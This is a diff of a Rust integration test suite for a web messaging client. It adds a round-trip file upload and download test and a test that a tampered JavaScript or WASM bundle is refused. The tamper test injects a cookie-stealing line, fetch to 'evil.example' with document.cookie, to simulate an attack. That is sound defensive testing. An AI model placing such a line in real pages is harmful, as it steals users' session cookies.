@@ -54,7 +54,15 @@ fn sign_in(b: &mut Browser, email: &str, password: &str) {
 
 async fn web_client_in_chromium(engine: Engine) {
     let web = repo().join("web/dist");
-    let server = Server::start_with(engine, BIN, &[("KLUIS_WEB_DIR", web.to_str().unwrap())]);
+    // Files up to 6 MiB of stream, so that one over the limit is cheap.
+    let server = Server::start_with(
+        engine,
+        BIN,
+        &[
+            ("KLUIS_WEB_DIR", web.to_str().unwrap()),
+            ("KLUIS_MAX_ATTACHMENT_MIB", "6"),
+        ],
+    );
     let practice = Practice::set_up(&server).await;
     let org = practice.org.clone();
     let native = |store: &Arc<MemoryStore>| Kluis::new(&server.base, store.clone()).unwrap();
@@ -177,6 +185,80 @@ async fn web_client_in_chromium(engine: Engine) {
     b.step("click", json!(["button.relationship"]));
     b.step("viewport", json!([1200, 800]));
     b.step("click", json!([".topbar button[lang]"]));
+
+    // A file up and down, byte for byte: Kees chooses one (5 MiB: more
+    // than one upload segment); the coach's SDK reads it back; the coach's
+    // file comes down through the page. One over the limit is refused
+    // before anything is sent, saying the limit.
+    let files = kluis_test_support::temp_dir();
+    let up: Vec<u8> = (0..5 * 1024 * 1024 + 123u32)
+        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
+        .collect();
+    let up_path = files.path().join("verslag.pdf");
+    std::fs::write(&up_path, &up).unwrap();
+    b.step("upload", json!(["#attach", up_path.to_str().unwrap()]));
+    b.step("waitForText", json!([".messages", "verslag.pdf"]));
+    let entries = coach.dialogue(rid).await.unwrap();
+    let doc = entries
+        .iter()
+        .find(|e| matches!(&e.content, EntryContent::Document(d) if d.name == "verslag.pdf"))
+        .expect("the coach sees the document");
+    let mut got = Vec::new();
+    coach
+        .download_file(
+            rid,
+            kluis_sdk::parse_item_id(&doc.item_id).unwrap(),
+            &mut got,
+            &mut |_| {},
+        )
+        .await
+        .unwrap();
+    assert!(got == up, "the coach reads the bytes Kees chose");
+    let down: Vec<u8> = b"Werkblad week 1\n".repeat(40_000);
+    coach
+        .send_file(
+            rid,
+            &down[..],
+            "werkblad.txt",
+            "text/plain",
+            Some(down.len() as u64),
+            &mut |_| {},
+        )
+        .await
+        .unwrap();
+    b.step("waitForText", json!([".messages", "werkblad.txt"]));
+    shot(&mut b, "documents-en");
+    let saved = files.path().join("werkblad-downloaded.txt");
+    let name = b.step(
+        "download",
+        json!([
+            ".document:has-text(\"werkblad.txt\") button.download",
+            saved.to_str().unwrap()
+        ]),
+    );
+    assert_eq!(name, "werkblad.txt");
+    assert!(
+        std::fs::read(&saved).unwrap() == down,
+        "the page saves the coach's bytes"
+    );
+    let big = files.path().join("te-groot.bin");
+    std::fs::write(&big, vec![7u8; 7 * 1024 * 1024]).unwrap();
+    b.step("upload", json!(["#attach", big.to_str().unwrap()]));
+    b.step("waitForText", json!([".uploads", "too large"]));
+    let said = b.step("text", json!([".uploads"]));
+    assert!(
+        said.as_str().unwrap().contains("nothing was sent"),
+        "{said}"
+    );
+    let documents = |entries: &[kluis_sdk::Entry]| {
+        entries
+            .iter()
+            .filter(|e| matches!(e.content, EntryContent::Document(_)))
+            .count()
+    };
+    assert_eq!(documents(&coach.dialogue(rid).await.unwrap()), 2);
+    b.step("click", json!([".uploads button.link"]));
+    no_problems(&mut b, "the files");
 
     // Deleting my own message: gone for the coach too, as my signed act.
     b.step("waitForText", json!([".bubble.mine", "Dank je, Carla."]));
@@ -509,6 +591,14 @@ async fn a_tampered_bundle_is_refused() {
     let mut text = std::fs::read_to_string(&forms).unwrap();
     text.push_str("\nfetch('https://evil.example/?' + document.cookie);\n");
     std::fs::write(&forms, text).unwrap();
+    // An attacker alters what is sent: the compressed copies too (here,
+    // gone, so that the altered file itself is what browsers get).
+    let drop_copies = |file: &std::path::Path| {
+        for ext in ["br", "gz"] {
+            std::fs::remove_file(format!("{}.{ext}", file.display())).unwrap();
+        }
+    };
+    drop_copies(&forms);
     let altered_wasm = kluis_test_support::temp_dir();
     copy_dir(&dist, altered_wasm.path());
     let wasm = altered_wasm.path().join("pkg/kluis_sdk_bg.wasm");
@@ -516,6 +606,7 @@ async fn a_tampered_bundle_is_refused() {
     let last = bytes.len() - 1;
     bytes[last] ^= 1;
     std::fs::write(&wasm, bytes).unwrap();
+    drop_copies(&wasm);
     let js_server = Server::start_with(
         Engine::Sqlite,
         BIN,
